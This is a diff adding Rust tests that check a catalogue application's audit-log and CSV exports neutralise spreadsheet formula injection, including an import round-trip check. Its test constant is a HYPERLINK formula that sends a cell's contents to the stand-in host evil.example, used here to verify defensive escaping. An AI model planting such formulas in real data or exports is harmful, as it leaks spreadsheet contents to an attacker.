@@ -216,3 +216,80 @@ on_both_stores!(another_organisations_draft_keeps_its_name_through_every_interfa
     assert_eq!(revision["document"]["title"], "Secret plan of A");
     s.stop().await;
 });
+
+// 4. CSV formula injection.
+
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+
+fn cells(csv_text: &str) -> Vec<String> {
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv_text.as_bytes());
+    reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
+}
+
+fn runs_as_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[tokio::test]
+async fn the_audit_csv_writes_a_formula_typed_as_an_email_as_text() {
+    let ts = TestStore::new(Backend::Sqlite).await;
+    ts.store.add_user("admin@example.org", Role::Admin, None).await.unwrap();
+    let token = ts.store.create_token("admin@example.org", "test", None).await.unwrap().1;
+    let s = TestServer::start(ts).await;
+    let mut b = Browser::new(&s);
+    b.sign_in(FORMULA, "not the password at all").await;
+    let r = reqwest::Client::new().get(s.url("/api/v1/audit?format=csv")).bearer_auth(&token).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+    let text = r.text().await.unwrap();
+    let all = cells(&text);
+    assert!(all.iter().any(|c| c.contains("evil.example")), "the attempt is in the log: {text}");
+    let bad: Vec<&String> = all.iter().filter(|c| runs_as_formula(c)).collect();
+    assert!(bad.is_empty(), "cells a spreadsheet would run: {bad:?}");
+    s.stop().await;
+}
+
+#[test]
+fn a_csv_export_writes_formulas_as_text_and_imports_back_to_the_same_values() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let source = dir.path().join("in.json");
+    let mut catalogue = small_catalogue();
+    catalogue["entries"][0]["legal_basis"] = json!(FORMULA);
+    catalogue["entries"][0]["summary"] = json!("-5 degrees, @home, +1 and '= stay as typed");
+    std::fs::write(&source, catalogue.to_string()).unwrap();
+    let standards = || std::process::Command::new(env!("CARGO_BIN_EXE_standards"));
+    let ok = |out: std::process::Output| {
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        out
+    };
+    ok(standards().arg("import").arg(&source).arg("--data-dir").arg(&data).output().unwrap());
+    let csv_path = dir.path().join("out.csv");
+    ok(standards()
+        .args(["export", "--format", "csv", "--output"])
+        .arg(&csv_path)
+        .arg("--data-dir")
+        .arg(&data)
+        .output()
+        .unwrap());
+    let text = std::fs::read_to_string(&csv_path).unwrap();
+    let all = cells(&text);
+    assert!(all.iter().any(|c| c == &format!("'{FORMULA}")), "{text}");
+    assert!(!all.iter().any(|c| runs_as_formula(c)), "{text}");
+
+    // Imported back, it changes nothing: the values are the originals.
+    let out = ok(standards().arg("import").arg(&csv_path).arg("--data-dir").arg(&data).output().unwrap());
+    let said = String::from_utf8_lossy(&out.stdout);
+    assert!(said.contains("0 updated"), "{said}");
+    let json_path = dir.path().join("again.json");
+    ok(standards()
+        .args(["export", "--format", "json", "--output"])
+        .arg(&json_path)
+        .arg("--data-dir")
+        .arg(&data)
+        .output()
+        .unwrap());
+    let exported: Value = serde_json::from_str(&std::fs::read_to_string(&json_path).unwrap()).unwrap();
+    let snomed = exported["entries"].as_array().unwrap().iter().find(|e| e["slug"] == "snomed-ct").unwrap();
+    assert_eq!(snomed["legal_basis"], FORMULA);
+    assert_eq!(snomed["summary"], "-5 degrees, @home, +1 and '= stay as typed");
+}
